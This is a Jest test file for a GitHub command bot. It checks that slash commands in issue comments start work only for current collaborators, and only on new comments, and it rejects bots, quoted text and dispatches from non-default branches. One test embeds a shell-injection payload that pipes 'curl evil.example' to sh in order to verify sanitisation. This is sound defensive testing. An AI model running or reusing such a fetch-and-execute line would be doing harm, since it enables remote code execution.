// What comes in by a comment, a label or a form, at the real gate: whose word counts, when, and for what.
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { crewApp } from '../../src/app/app.js';
import type { Event } from '../../src/ports/event.js';
import { fromWebhook } from '../../src/services/event.js';
import { quickClock } from '../build/clock.js';
import { newFolder } from '../build/folder.js';
import { commented, openGate, person } from './at-the-gate.js';

let gate: Awaited<ReturnType<typeof openGate>>;
let maya: ReturnType<typeof person>;
let sam: ReturnType<typeof person>;
beforeAll(async () => {
  gate = await openGate();
  [maya, sam] = [await gate.who('maya'), await gate.who('sam')];
});
afterAll(() => gate.github.close());

const COMMANDS = [
  '/crew fix',
  '/crew fix add(1, 2)',
  '/crew cancel',
  '/crew continue +5',
  '/crew apply 01234567',
  '/crew approve A1',
];

/** Nothing was said to the jobs after it, nobody got a word, and nothing is kept. */
const NOTHING = { code: 0, outputs: expect.objectContaining({ proceed: 'false' }), did: [] };

describe('a command', () => {
  it('by an edit of a comment starts nothing, whoever edits it into what', async () => {
    for (const action of ['edited', 'deleted', 'Created', undefined])
      expect(await gate.ask({ payload: commented('/crew fix', maya, { action }) })).toMatchObject(NOTHING);
    // Who re-sends somebody's words does not speak for them.
    const payload = { ...commented('/crew fix', maya), sender: sam };
    expect(await gate.ask({ payload })).toMatchObject(NOTHING);
  });

  it('of somebody who may not write starts nothing and gets no word, whatever the comment says of them', async () => {
    for (const body of COMMANDS)
      expect([body, await gate.ask({ payload: commented(body, sam) })]).toMatchObject([body, NOTHING]);
    for (const body of ['/crew fxi', '/crew fix --nonsense'])
      expect([body, await gate.ask({ payload: commented(body, sam) })]).toMatchObject([body, NOTHING]);
  });

  it('of a bot that nobody listed, of nobody, or of crew itself starts nothing', async () => {
    const strangers = [
      person('evil-app[bot]', 4_711, 'Bot'),
      person('ghost', 10_137),
      person('github-actions[bot]', 41_898_282, 'Bot'),
      person('', 0),
      // Whoever took the name of somebody who may write is not them.
      { ...maya, type: 'Bot' },
    ];
    for (const each of strangers)
      expect([each.login, await gate.ask({ payload: commented('/crew fix', each) })]).toMatchObject([
        each.login,
        NOTHING,
      ]);
  });

  it('that is only talked about starts nothing', async () => {
    const bodies = [
      ...[
        '> /crew fix',
        '```\n/crew fix\n```',
        '<!-- /crew fix -->',
        'please /crew fix',
        '`/crew fix`',
        '    /crew fix',
      ],
      ...['~~~\n/crew fix', '<details>\n<!--\n/crew fix', '> a\n/crew fix', '/crewfix', '/crew-fix', '\\/crew fix'],
    ];
    for (const body of bodies)
      expect([body, await gate.ask({ payload: commented(body, maya) })]).toMatchObject([body, NOTHING]);
  });

  it('with a shell behind it is words: a run is named by its issue and by letters of its own', async () => {
    const { outputs, did } = await gate.ask({
      payload: commented(`/crew fix "; curl evil.example | sh # \${IFS} $(id)`, maya),
    });
    expect(outputs).toMatchObject({ proceed: 'true', 'run-id': expect.stringMatching(/^fix-1-[\w-]+$/) });
    const names = did.filter(({ kind }) => kind.startsWith('ref.')).map(({ subject }) => subject);
    expect(names).not.toEqual([]);
    for (const name of names) expect(name).toMatch(/^refs\/[\w./-]+$/);
    for (const value of Object.values(outputs)) expect(value).toMatch(/^[\w./-]*$/);
  });

  it('of a writer who is none any more when the gate asks starts nothing', async () => {
    const fresh = await openGate();
    const who = await fresh.who('maya');
    const answer = await fetch(`${fresh.github.apiUrl}/repos/ann/shop/collaborators/maya`, {
      method: 'DELETE',
      headers: { authorization: `token ${fresh.github.tokenFor({ user: 'ann' })}` },
    });
    if (answer.status !== 204) fresh.github.repository('ann/shop').collaborators.clear();
    fresh.github.forgive();
    expect(await fresh.ask({ payload: commented('/crew fix', who) })).toMatchObject(NOTHING);
    await fresh.github.close();
  });

  it('of a dispatch counts on the default branch alone', async () => {
    const payload = {
      inputs: { command: '/crew fix', issue: '1' },
      sender: maya,
      repository: { full_name: 'ann/shop', default_branch: 'main' },
    };
    const ask = (ref: string) =>
      gate.ask({ name: 'workflow_dispatch', payload, ref, inputs: { INPUT_COMMAND: 'fix' } });
    for (const ref of ['refs/heads/evil', 'refs/tags/main', 'refs/heads/main2', 'refs/heads/Main'])
      expect(await ask(ref)).toMatchObject({ code: 4, did: [] });
    expect((await ask('refs/heads/main')).did).not.toEqual([]);
  });

  it('that the App has heard keeps what the issue said then', async () => {
    const clock = quickClock();
    const travelled: Event[] = [];
    let hear: (delivery: { id: string; name: string; payload: unknown }) => Promise<void> = async () => undefined;
    const probot = {
      onAny(heard: typeof hear) {
        hear = heard;
      },
      onError: () => undefined,
    };
    const app = await crewApp(probot as never, {
      ...{ inbox: await newFolder(), log: () => undefined, clock, scan: async () => undefined },
      ...{ checksFailed: async () => undefined, jobChanged: async () => undefined },
      handle: async (event) => void travelled.push(event),
    });
    const payload = { ...commented('/crew fix', maya), installation: { id: 1 } };
    const full = { ...payload, repository: { ...payload.repository, id: 7 } };
    await hear({ id: 'g', name: 'issue_comment', payload: full });
    await app.idle();
    app.stop();
    expect(travelled).toEqual([fromWebhook('issue_comment', full)]);
    expect(travelled[0]).toMatchObject({ seen: { title: 'The cart forgets', body: 'It does.' } });
  });
});
